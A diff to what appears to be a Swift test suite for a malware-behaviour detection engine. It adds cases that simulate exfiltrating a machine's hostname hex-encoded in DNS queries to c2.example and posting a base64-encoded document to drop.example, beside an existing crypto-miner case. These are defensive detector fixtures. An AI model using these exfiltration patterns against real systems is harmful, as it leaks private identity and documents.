@@ -230,6 +230,26 @@ extension RuleCase {
         RuleCase(id: "cryptocurrency-mining",
                  positive: { $0.exec("/tmp/.x/xmrig", argv: ["xmrig", "-o", "stratum+tcp://pool.example:3333", "-u", "4Abc"]) },
                  negative: { $0.exec("/usr/bin/curl", argv: ["curl", "https://pool.example/stats"]) }),
+        RuleCase(id: "sends-system-identity",
+                 // The host name hex-encoded over DNS labels.
+                 positive: { t in
+                     t.report.canaries = [Canary(token: "ws-lnx-0417", file: "/etc/hostname", kind: "identity:hostname")]
+                     t.dns("77732d6c6e782d.30343137.t.c2.example")
+                 },
+                 // Another machine's name is not this one's identity.
+                 negative: { t in
+                     t.report.canaries = [Canary(token: "ws-lnx-0417", file: "/etc/hostname", kind: "identity:hostname")]
+                     t.dns("77732d6c6e782d.30343138.t.c2.example")
+                 }),
+        RuleCase(id: "exfiltrates-documents",
+                 positive: { t in
+                     t.report.canaries = [Canary(token: "Q4 planning: migrate build01 to the new cluster", file: "/home/user/Documents/meeting-notes.txt", kind: "document")]
+                     t.http("POST", "http://drop.example/u", body: "d=UTQgcGxhbm5pbmc6IG1pZ3JhdGUgYnVpbGQwMSB0byB0aGUgbmV3IGNsdXN0ZXI=")
+                 },
+                 negative: { t in
+                     t.report.canaries = [Canary(token: "Q4 planning: migrate build01 to the new cluster", file: "/home/user/Documents/meeting-notes.txt", kind: "document")]
+                     t.http("POST", "http://drop.example/u", body: "d=Q4 planning")
+                 }),
         RuleCase(id: "network-shell-confirmed",
                  positive: { t in
                      var o = ServiceRecord(connection: "c3", service: "shell", timeNs: 1)
